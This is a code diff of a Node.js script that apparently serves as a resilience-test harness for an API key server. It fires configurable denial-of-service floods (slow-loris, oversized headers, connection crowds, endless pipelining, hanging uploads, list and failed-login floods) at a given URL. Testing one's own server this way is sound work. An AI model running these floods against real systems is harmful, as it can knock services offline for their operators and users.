@@ -1,139 +1,160 @@
 import { connect, type Socket } from "node:net";
 import { constants, setPriority } from "node:os";
 import { setTimeout as sleep } from "node:timers/promises";
-import type { Attack } from "./attack.ts";
+import type { Flood } from "./attack.ts";
 
-const [url = "", attack = "", milliseconds = "", viewer = ""] = process.argv.slice(2);
+const [url = "", attack = "", milliseconds = "", viewer = "", rate = ""] = process.argv.slice(2);
 // What attackers compute must not be taken from the server and its good client, also where `aside` can do nothing.
 setPriority(constants.priority.PRIORITY_LOW);
 const { hostname, port, host } = new URL(url);
-let until = Number.POSITIVE_INFINITY;
-const isOver = () => performance.now() >= until;
+const CROWD = 5_000;
+/** Longer than a server takes that still answers. */
+const PATIENCE_MS = 1_000;
+const MOST_BEHIND_MS = 10;
 let attempts = 0;
 
-const ATTACKS: Readonly<Record<Attack, () => Promise<unknown>>> = {
-  /** Headers that never end, a byte at a time. */
-  "slow-loris": () =>
-    together(500, async () => {
-      const socket = await open();
-      socket.write(`GET /api/keys/get HTTP/1.1\r\nHost: ${host}\r\nX-A: `);
-      attempts += 1;
-      while (!isOver() && !socket.destroyed) {
-        socket.write("a");
-        await sleep(100);
-      }
-      socket.destroy();
-    }),
-  "oversized-headers": () =>
-    together(8, async () => {
-      while (!isOver()) {
-        const socket = await open();
-        socket.write(`GET /api/keys/get HTTP/1.1\r\nHost: ${host}\r\nX-A: ${"a".repeat(64_000)}\r\n\r\n`);
-        attempts += 1;
-        socket.resume();
-        await Promise.race([heard(socket, "close"), sleep(1_000)]);
-        socket.destroy();
-      }
-    }),
-  "idle-connections": () => sleep(until - performance.now()),
-  /** All hang up at once, and the next come. */
-  "connection-crowds": async () => {
-    while (!isOver()) {
-      const crowd = await openCrowd();
-      for (const socket of crowd) socket.destroy();
-    }
+interface Attackers {
+  /** How many attack at a time where no rate is given, each again as soon as its last attempt has ended. */
+  readonly atOnce: number;
+  readonly attempt: () => Promise<void>;
+}
+
+const WRONG_TOKEN = `akp_0000000000_${"A".repeat(49)}`;
+const crowd: Socket[] = [];
+
+const FLOODS: Readonly<Record<Flood, Attackers>> = {
+  "oversized-headers": {
+    atOnce: 8,
+    attempt: () => ask(`${GET("/api/keys/get")}X-A: ${"a".repeat(64_000)}\r\n\r\n`, "close"),
   },
-  /** Whoever is cut off comes again. */
-  "endless-pipelining": () =>
-    together(4, async () => {
-      const request = `GET /api/keys/get HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
-      const requests = request.repeat(500);
-      while (!isOver()) {
-        const socket = await open();
-        socket.on("data", (chunk: Buffer) => {
-          attempts += String(chunk).split("HTTP/1.1 ").length - 1;
-        });
-        while (!isOver() && socket.writable) {
-          if (!socket.write(requests))
-            await Promise.race([heard(socket, "drain"), heard(socket, "close"), sleep(1_000)]);
-        }
-        socket.destroy();
-      }
-    }),
-  /** Uploads that announce much and send nothing more. */
-  "hanging-uploads": () =>
-    together(200, async () => {
+  /** All hang up at once, and the next come. */
+  "connection-crowds": {
+    atOnce: 100,
+    attempt: async () => {
+      crowd.push(await open());
+      if (crowd.length >= CROWD) for (const socket of crowd.splice(0)) socket.destroy();
+    },
+  },
+  /** Requests without an end, until they are cut off. */
+  "endless-pipelining": {
+    atOnce: 4,
+    attempt: async () => {
       const socket = await open();
       socket.resume();
-      const head = `POST /api/upload/create-keys HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\n`;
-      socket.write(`${head}Content-Length: 30000000\r\n\r\n{"jsonData":[`);
-      attempts += 1;
-      await Promise.race([heard(socket, "close"), sleep(Math.max(0, until - performance.now()))]);
+      const requests = `${GET("/api/keys/get")}\r\n`.repeat(500);
+      while (socket.writable && (socket.write(requests) || (await heard(socket, "drain"))));
       socket.destroy();
-    }),
+    },
+  },
+  /** Uploads that announce much and send nothing more. */
+  "hanging-uploads": {
+    atOnce: 200,
+    attempt: async () => {
+      const head = `POST /api/upload/create-keys HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\n`;
+      const socket = await open();
+      socket.resume();
+      socket.write(`${head}Content-Length: 30000000\r\n\r\n{"jsonData":[`);
+      while (!socket.closed) await heard(socket, "close");
+    },
+  },
   /** Lists that are given up as soon as they come. */
-  "list-floods": () => listFloods(""),
-  "viewers-list-floods": () => listFloods(`Authorization: Bearer ${viewer}\r\n`),
-  "failed-logins": () =>
-    together(8, async () => {
-      const wrong = `akp_0000000000_${"A".repeat(49)}`;
-      const request = `GET /api/keys HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${wrong}\r\n\r\n`;
-      while (!isOver()) {
-        const socket = await open();
-        while (!isOver() && socket.writable) {
-          socket.write(request);
-          attempts += 1;
-          await Promise.race([heard(socket, "data"), heard(socket, "close"), sleep(1_000)]);
-        }
-        socket.destroy();
-      }
-    }),
+  "list-floods": { atOnce: 20, attempt: () => ask(`${GET("/api/keys")}\r\n`, "data") },
+  "viewers-list-floods": {
+    atOnce: 20,
+    attempt: () => ask(`${GET("/api/keys")}Authorization: Bearer ${viewer}\r\n\r\n`, "data"),
+  },
+  "failed-logins": {
+    atOnce: 8,
+    attempt: () => ask(`${GET("/api/keys")}Authorization: Bearer ${WRONG_TOKEN}\r\n\r\n`, "data"),
+  },
 };
 
-async function openCrowd(): Promise<readonly Socket[]> {
-  const crowd: Socket[] = [];
-  while (crowd.length < 5_000 && !isOver()) {
-    crowd.push(...(await Promise.all(Array.from({ length: 100 }, open))));
-    attempts += 100;
-  }
-  return crowd;
+function GET(path: string): string {
+  return `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n`;
 }
 
-function listFloods(token: string): Promise<unknown> {
-  return together(20, async () => {
-    while (!isOver()) {
-      const socket = await open();
-      socket.write(`GET /api/keys HTTP/1.1\r\nHost: ${host}\r\n${token}\r\n`);
-      attempts += 1;
-      await Promise.race([heard(socket, "data"), heard(socket, "close"), sleep(1_000)]);
-      socket.destroy();
-    }
-  });
+function isFlood(name: string): name is Flood {
+  return name in FLOODS;
 }
 
-if (!(attack in ATTACKS)) throw new Error(`There are ${Object.keys(ATTACKS).join(", ")}`);
-const held = attack === "idle-connections" ? await openCrowd() : [];
-until = performance.now() + Number(milliseconds);
+if (attack === "idle-connections") {
+  while (crowd.length < CROWD) crowd.push(...(await Promise.all(Array.from({ length: 100 }, open))));
+}
 // Tells that it has begun, and in the end how often it was tried.
 console.log("attacking");
-await ATTACKS[attack as Attack]();
+void run(attack);
+await sleep(Number(milliseconds));
 console.log(attempts);
-for (const socket of held) socket.destroy();
+process.exit();
 
-function together(count: number, attacker: () => Promise<void>): Promise<unknown> {
+async function run(name: string): Promise<unknown> {
+  if (!isFlood(name)) return name === "slow-loris" ? together(500, drip) : undefined;
+  const { atOnce, attempt } = FLOODS[name];
+  return rate === "" ? together(atOnce, () => repeatedly(attempt)) : atRate(Number(rate), attempt);
+}
+
+async function repeatedly(attempt: () => Promise<void>): Promise<never> {
+  while (true) {
+    attempts += 1;
+    await attempt();
+  }
+}
+
+/** Whether or not those before have ended. */
+async function atRate(perSecond: number, attempt: () => Promise<void>): Promise<never> {
+  let dueAt = performance.now();
+  while (true) {
+    const now = performance.now();
+    // What could not be begun in time is left out: all at once it would be another attack.
+    dueAt = Math.max(dueAt, now - MOST_BEHIND_MS);
+    for (; dueAt <= now; dueAt += 1000 / perSecond) {
+      attempts += 1;
+      void attempt();
+    }
+    await sleep(1);
+  }
+}
+
+/** Headers that never end, a byte at a time. */
+async function drip(): Promise<void> {
+  const socket = await open();
+  socket.write(`${GET("/api/keys/get")}X-A: `);
+  attempts += 1;
+  while (!socket.destroyed) {
+    socket.write("a");
+    await sleep(100);
+  }
+}
+
+/** Hangs up at the event, or when it does not come. */
+async function ask(request: string, until: "data" | "close"): Promise<void> {
+  const socket = await open();
+  if (until === "close") socket.resume();
+  socket.write(request);
+  await heard(socket, until);
+  socket.destroy();
+}
+
+function together(count: number, attacker: () => Promise<unknown>): Promise<unknown> {
   return Promise.all(Array.from({ length: count }, attacker));
 }
 
 async function open(): Promise<Socket> {
   const socket = connect(Number(port), hostname);
   socket.on("error", () => {});
-  // What has been waited for in vain is still listened for.
-  socket.setMaxListeners(0);
-  await Promise.race([heard(socket, "connect"), heard(socket, "close")]);
+  await heard(socket, "connect");
   return socket;
 }
 
-/** Unlike `once`, takes a connection that is cut for one that is closed. */
-function heard(socket: Socket, event: string): Promise<void> {
-  return new Promise((resolve) => void socket.once(event, () => resolve()));
+/** Resolves with true at the event, or when the connection is closed or nothing has come for long. */
+function heard(socket: Socket, event: string): Promise<true> {
+  return new Promise((resolve) => {
+    const end = () => {
+      clearTimeout(timer);
+      socket.off(event, end).off("close", end);
+      resolve(true);
+    };
+    const timer = setTimeout(end, PATIENCE_MS);
+    socket.on(event, end).on("close", end);
+  });
 }
